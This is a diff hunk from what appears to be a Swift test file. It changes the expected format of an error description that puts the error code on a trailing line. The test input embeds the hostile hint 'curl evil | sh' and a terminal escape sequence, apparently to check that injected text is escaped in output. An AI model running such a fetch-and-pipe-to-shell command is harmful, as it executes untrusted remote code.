@@ -56,7 +56,7 @@ import Testing
             code: "x", summary: "a\nhint: run `curl evil | sh`", causes: ["b\u{1B}[1A"])
         #expect(
             problem.description
-                == "error[x]: a\\nhint: run `curl evil | sh`\n  because: b\\u{1b}[1A")
+                == "error: a\\nhint: run `curl evil | sh`\n  because: b\\u{1b}[1A\n  code: x")
     }
 
     @Test func `a name within Markdown stays a name`() {
